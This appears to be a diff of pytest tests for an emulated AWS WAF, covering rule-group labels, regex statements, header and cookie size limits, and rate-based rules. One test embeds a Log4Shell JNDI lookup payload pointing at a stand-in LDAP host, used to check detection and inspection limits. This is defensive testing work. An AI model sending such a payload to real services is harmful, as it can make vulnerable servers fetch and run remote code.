@@ -2,6 +2,7 @@
 
 import base64
 import json
+import re
 from collections.abc import Mapping, Sequence
 from typing import Any
 
@@ -12,12 +13,21 @@ from embedded_cloud.agents.waf.managed_rules import GROUPS
 from embedded_cloud.agents.waf.rates import Rates
 from embedded_cloud.agents.waf.request import BODY_LIMIT, WebRequest
 from embedded_cloud.agents.waf.statements import Inspection
-from embedded_cloud.agents.waf.web_acl import Decision, WebAcl, decide, metrics
+from embedded_cloud.agents.waf.web_acl import Decision, Match, RuleGroup, WebAcl, decide, metrics
+from embedded_cloud.api.regular_expressions import compiled
 
 CORE, BAD_INPUTS = "AWSManagedRulesCommonRuleSet", "AWSManagedRulesKnownBadInputsRuleSet"
 BROWSER = [("host", "app.example.com"), ("user-agent", "Mozilla/5.0"), ("cookie", "sessionid=abc; csrftoken=def")]
 NAMESPACE = "awswaf:123456789012:webacl:front:"
+GROUP_NAMESPACE = "awswaf:123456789012:rulegroup:own:"
 BLOCK: dict[str, Any] = {"Block": {}}
+LAST = {"PositionalConstraint": "EXACTLY", "SearchString": base64.b64encode(b"x-last").decode()}
+USE_GROUP: dict[str, Any] = {
+    "Name": "own",
+    "Priority": 0,
+    "Statement": {"RuleGroupReferenceStatement": {"ARN": "arn:group"}},
+    "OverrideAction": {"None": {}},
+}
 
 
 def request(*more: tuple[str, str], **parts: Any) -> WebRequest:
@@ -127,6 +137,9 @@ def test_a_group_blocks_and_counts_when_it_is_overridden() -> None:
 def test_a_rule_of_a_group_counts_alone_and_the_next_one_blocks(override: dict[str, Any]) -> None:
     found = decided(request(method="PROPFIND"), managed(BAD_INPUTS, **override))
     assert (found.action, found.groups[0].counted) == ("ALLOW", ["PROPFIND_METHOD"])
+    # The group itself counts nothing.
+    assert found.counted == []
+    assert "CountedRequests" not in dict(metrics(acl(), found))
     both = decided(request(method="PROPFIND", path="/web-inf"), managed(BAD_INPUTS, **override))
     assert both.terminating is not None
     assert (both.action, both.groups[0].terminating.rule if both.groups[0].terminating else "") == (
@@ -142,15 +155,70 @@ def test_a_group_inspects_what_its_scope_has_only() -> None:
     assert decided(request(method="PROPFIND", path="/" * 21), scoped).action == "BLOCK"
 
 
+def own_group(*rules: Mapping[str, Any]) -> dict[str, RuleGroup]:
+    return {"arn:group": RuleGroup(label_namespace=GROUP_NAMESPACE, rules=rules)}
+
+
+def long_path(name: str = "long", **more: Any) -> dict[str, Any]:
+    """A rule that matches paths of more than 20 bytes."""
+    return rule(name, {"SizeConstraintStatement": size("UriPath", "GT", 20)}, **more)
+
+
+def labelled(key: str, scope: str = "LABEL") -> dict[str, Any]:
+    return {"LabelMatchStatement": {"Scope": scope, "Key": key}}
+
+
 def test_a_rule_group_of_ones_own_acts_with_its_labels() -> None:
-    inside = rule(
-        "long", {"SizeConstraintStatement": size("UriPath", "GT", 20)}, Action=BLOCK, RuleLabels=[{"Name": "a:b"}]
-    )
-    own = rule("own", {"RuleGroupReferenceStatement": {"ARN": "arn:group"}}, OverrideAction={"None": {}})
-    with_group = acl(own, rule_groups={"arn:group": [inside]})
+    inside = long_path(Action=BLOCK, RuleLabels=[{"Name": "a:b"}])
+    with_group = acl(USE_GROUP, rule_groups=own_group(inside))
     assert decide(with_group, inspection(request())).action == "ALLOW"
     found = decide(with_group, inspection(request(path="/" * 21)))
-    assert (found.action, found.labels, found.groups[0].group) == ("BLOCK", ["a:b"], "arn:group")
+    assert (found.action, found.labels, found.groups[0].group) == ("BLOCK", [f"{GROUP_NAMESPACE}a:b"], "arn:group")
+
+
+def test_a_rule_of_a_group_finds_the_labels_of_its_group_without_a_prefix_and_one_outside_needs_it() -> None:
+    counted = long_path(Action={"Count": {}}, RuleLabels=[{"Name": "a:b"}])
+    inside = own_group(counted, rule("inside", labelled("a:b"), 1, Action=BLOCK))
+    assert decide(acl(USE_GROUP, rule_groups=inside), inspection(request(path="/" * 21))).action == "BLOCK"
+    for key, action in (("a:b", "ALLOW"), (f"{GROUP_NAMESPACE}a:b", "BLOCK")):
+        outside = acl(USE_GROUP, rule("outside", labelled(key), 1, Action=BLOCK), rule_groups=own_group(counted))
+        assert decide(outside, inspection(request(path="/" * 21))).action == action
+
+
+@pytest.mark.parametrize(
+    ("scope", "key", "found"),
+    [
+        ("LABEL", "utf8", True),
+        ("LABEL", "encoding:utf8", True),
+        ("LABEL", "header:encoding:utf8", True),
+        ("LABEL", f"{NAMESPACE}header:encoding:utf8", True),
+        ("LABEL", f"{NAMESPACE}utf8", False),
+        ("LABEL", "coding:utf8", False),
+        ("LABEL", "encoding", False),
+        ("NAMESPACE", "header:encoding:", True),
+        ("NAMESPACE", "encoding:", True),
+        ("NAMESPACE", f"{NAMESPACE}header:", True),
+        ("NAMESPACE", f"{NAMESPACE}head", False),
+        ("NAMESPACE", "utf8", False),
+        ("NAMESPACE", "webacl:", False),
+        ("NAMESPACE", "awswaf:444455556666:webacl:front:header:", False),
+    ],
+)
+def test_labels_match_as_in_the_examples_of_aws(scope: str, key: str, found: bool) -> None:
+    """WAF developer guide, "Label match examples"."""
+    one = inspection(request(), labels=[f"{NAMESPACE}header:encoding:utf8"])
+    assert one.matches(labelled(key, scope)) is found
+    elsewhere = f"{GROUP_NAMESPACE}header:encoding:utf8"
+    assert inspection(request(), labels=[elsewhere]).matches(labelled(key, scope)) is False
+
+
+def test_a_rule_that_does_not_act_acts_when_an_override_says_so() -> None:
+    override = [{"Name": "long", "ActionToUse": BLOCK}]
+    groups = own_group(long_path(Action={"Captcha": {}}))
+    for more, action in (({}, "ALLOW"), ({"RuleActionOverrides": override}, "BLOCK")):
+        statement = {"RuleGroupReferenceStatement": {"ARN": "arn:group", **more}}
+        using = acl({**USE_GROUP, "Statement": statement}, rule_groups=groups)
+        assert decide(using, inspection(request(path="/" * 21))).action == action
 
 
 def test_a_group_that_aws_does_not_describe_never_matches() -> None:
@@ -233,6 +301,34 @@ def test_bytes_are_matched_at_their_position(position: str, text: str, expected:
     assert inspection(request()).matches({"ByteMatchStatement": details}) is expected
 
 
+def regex(pattern: str) -> dict[str, Any]:
+    return {"RegexMatchStatement": {"RegexString": pattern, "FieldToMatch": {"UriPath": {}}, "TextTransformations": []}}
+
+
+@pytest.mark.parametrize("pattern", ["(unclosed", r"^/films\z", "^/[[:alpha:]]+$", "(*UTF8)films"])
+def test_a_pattern_that_is_not_known_here_never_matches_and_other_rules_act(pattern: str) -> None:
+    """A snapshot may hold one that the API refuses."""
+    assert inspection(request()).matches(regex(pattern)) is None
+    block = rule("next", regex("^/films$"), 1, Action=BLOCK)
+    assert decided(request(), rule("own", regex(pattern), Action=BLOCK), block).terminating == Match(
+        rule="next", action="BLOCK", metric="next-metric", statement=block["Statement"]
+    )
+    sets = {"arn:known": ["^/x", pattern], "arn:both": [pattern, "^/films"]}
+    details = {"FieldToMatch": {"UriPath": {}}, "TextTransformations": []}
+    found = [
+        inspection(request(), regex_sets=sets).matches({"RegexPatternSetReferenceStatement": {**details, "ARN": arn}})
+        for arn in sets
+    ]
+    assert found == [None, True]
+
+
+def test_a_pattern_is_compiled_once_and_reads_bytes() -> None:
+    known = compiled("^/films$")
+    re.purge()
+    assert compiled("^/films$") is known
+    assert inspection(request(path="/\xe9")).matches(regex(r"^/\w$")) is False
+
+
 def test_a_header_that_is_not_there_does_not_match() -> None:
     details = {"FieldToMatch": {"SingleHeader": {"Name": "x-key"}}, "ComparisonOperator": "LT", "Size": 5}
     assert inspection(request()).matches({"SizeConstraintStatement": details}) is False
@@ -244,6 +340,38 @@ def test_a_body_above_the_limit_is_handled_as_the_rule_says(handling: str, expec
     details = {"FieldToMatch": {"Body": {"OversizeHandling": handling}}, "ComparisonOperator": "GT", "Size": 9000}
     large = request(body="a" * BODY_LIMIT, body_size=10_000)
     assert inspection(large).matches({"SizeConstraintStatement": details}) is expected
+
+
+MANY = [(f"x-{number}", "") for number in range(197)]
+"""Headers of a browser, three, with which there are 200."""
+
+
+@pytest.mark.parametrize(
+    ("kind", "within", "above"),
+    [
+        ("Headers", MANY, [*MANY, ("x-last", "")]),
+        ("Headers", [("x-long", "a" * 8000)], [("x-long", "a" * 8192)]),
+        ("Cookies", [("cookie", "; ".join(["a=1"] * 198))], [("cookie", "; ".join(["a=1"] * 199))]),
+        ("Cookies", [("cookie", "a=" + "1" * 8100)], [("cookie", "a=" + "1" * 8192)]),
+    ],
+)
+def test_headers_and_cookies_above_the_limits_are_handled_as_the_rule_says(
+    kind: str, within: list[tuple[str, str]], above: list[tuple[str, str]]
+) -> None:
+    def matches(more: list[tuple[str, str]], handling: str) -> bool | None:
+        field = {kind: {"MatchPattern": {"All": {}}, "MatchScope": "ALL", "OversizeHandling": handling}}
+        return inspection(request(*more)).matches({"ByteMatchStatement": {**LAST, "FieldToMatch": field}})
+
+    assert [matches(within, handling) for handling in ("MATCH", "NO_MATCH", "CONTINUE")] == [False, False, False]
+    assert [matches(above, handling) for handling in ("MATCH", "NO_MATCH", "CONTINUE")] == [True, False, False]
+
+
+def test_what_is_beyond_the_limits_of_headers_is_not_inspected() -> None:
+    attack = "${jndi:ldap://example.com/}"
+    assert matching(request(("x-long", attack + "a" * 9000)), BAD_INPUTS) == ["Log4JRCE_HEADER"]
+    assert matching(request(("x-long", "a" * 8192 + attack)), BAD_INPUTS) == []
+    assert matching(request(*MANY, ("x-last", attack)), BAD_INPUTS) == []
+    assert matching(request(*MANY[1:], ("x-last", attack)), BAD_INPUTS) == ["Log4JRCE_HEADER"]
 
 
 def test_a_rate_is_counted_for_each_client_in_its_window() -> None:
@@ -259,6 +387,46 @@ def test_a_rate_is_counted_for_each_client_in_its_window() -> None:
     assert send("203.0.113.10", 10) == "ALLOW"
     assert send("203.0.113.9", 60) == "BLOCK"
     assert send("203.0.113.9", 200) == "ALLOW"
+
+
+def test_an_address_that_no_longer_asks_is_forgotten_when_its_window_has_passed() -> None:
+    rates, statement = Rates(), {"Limit": 10, "EvaluationWindowSec": 60}
+    for number in range(1000):
+        rates.exceeds("rate", f"10.0.{number // 250}.{number % 250}", statement, now=100)
+    rates.exceeds("rate", "203.0.113.9", statement, now=159)
+    assert len(rates) == 1001
+    rates.exceeds("rate", "203.0.113.9", statement, now=160)
+    assert len(rates) == 1
+
+
+def test_a_blocked_address_is_released_when_its_rate_falls() -> None:
+    rates, statement = Rates(), {"Limit": 10, "EvaluationWindowSec": 60}
+    assert [rates.exceeds("rate", "a", statement, now=5 * second) for second in range(20)] == [False] * 10 + [True] * 10
+    assert [rates.exceeds("rate", "a", statement, now=100 + 10 * second) for second in range(6)][-1] is False
+
+
+def test_rules_of_the_same_name_and_new_limits_of_a_rule_have_counts_of_their_own() -> None:
+    rates = Rates()
+    limited = {"RateBasedStatement": {"Limit": 20, "AggregateKeyType": "IP"}}
+    counted = own_group(rule("rate", limited, Action={"Count": {}}))
+    both = acl(USE_GROUP, rule("rate", limited, 1, Action=BLOCK), rule_groups=counted)
+    assert [decide(both, inspection(request(), rates=rates)).action for _ in range(20)] == ["ALLOW"] * 20
+    lowered = {"RateBasedStatement": {"Limit": 10, "AggregateKeyType": "IP"}}
+    assert decide(acl(rule("rate", lowered, Action=BLOCK)), inspection(request(), rates=rates)).action == "ALLOW"
+    assert decide(both, inspection(request(), rates=rates)).action == "BLOCK"
+
+
+@pytest.mark.parametrize(
+    ("forwarded", "fallback", "expected"),
+    [("unknown", "MATCH", True), ("unknown", "NO_MATCH", False), (None, "MATCH", None), ("10.0.0.1", "MATCH", False)],
+)
+def test_a_forwarded_address_that_is_none_is_handled_as_the_rule_says(
+    forwarded: str | None, fallback: str, expected: bool | None
+) -> None:
+    config = {"HeaderName": "X-Forwarded-For", "FallbackBehavior": fallback}
+    statement = {"Limit": 10, "AggregateKeyType": "FORWARDED_IP", "ForwardedIPConfig": config}
+    one = request(*([("x-forwarded-for", forwarded)] if forwarded else []))
+    assert inspection(one).matches({"RateBasedStatement": statement}) is expected
 
 
 def test_a_rate_counts_what_its_scope_has_only() -> None:
